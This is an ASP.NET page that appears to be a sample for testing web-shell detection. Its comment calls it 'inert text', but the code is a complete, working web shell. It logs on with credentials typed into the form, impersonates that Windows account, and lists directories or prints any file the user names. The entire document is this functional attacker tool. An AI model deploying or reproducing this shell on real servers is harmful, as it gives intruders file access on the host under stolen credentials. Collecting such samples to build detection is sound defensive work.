<%@ Page Language="C#" %>
<%@ Import Namespace="System.Security.Principal" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<%-- webhunt test sample (inert text): logs on with the account typed into the form, impersonates
     it, then lists or prints whatever path the "action path" field names. --%>
<script runat="server">
    [DllImport("advapi32.dll", SetLastError = true)]
    static extern bool LogonUserW(string user, string domain, string pass, int type, int provider, out IntPtr token);

    protected void Go_Click(object sender, EventArgs e)
    {
        IntPtr tok;
        if (!LogonUserW(boxUser.Text, boxDomain.Text, boxPass.Text, 2, 0, out tok)) { return; }
        using (WindowsImpersonationContext ctx = new WindowsIdentity(tok).Impersonate())
        {
            string[] parts = boxAction.Text.Split(new[] { ' ' }, 2);
            if (parts[0] == "ls")
                foreach (string f in System.IO.Directory.GetFiles(parts[1])) litOut.Text += f + "<br/>";
            else
                litOut.Text = Server.HtmlEncode(System.IO.File.ReadAllText(parts[1]));
        }
    }
</script>
<html><body><form runat="server">
<asp:TextBox ID="boxUser" runat="server" /><asp:TextBox ID="boxDomain" runat="server" />
<asp:TextBox ID="boxPass" runat="server" /><asp:TextBox ID="boxAction" runat="server" />
<asp:Button ID="go" runat="server" OnClick="Go_Click" Text="Run" />
<asp:Literal ID="litOut" runat="server" />
</form></body></html>
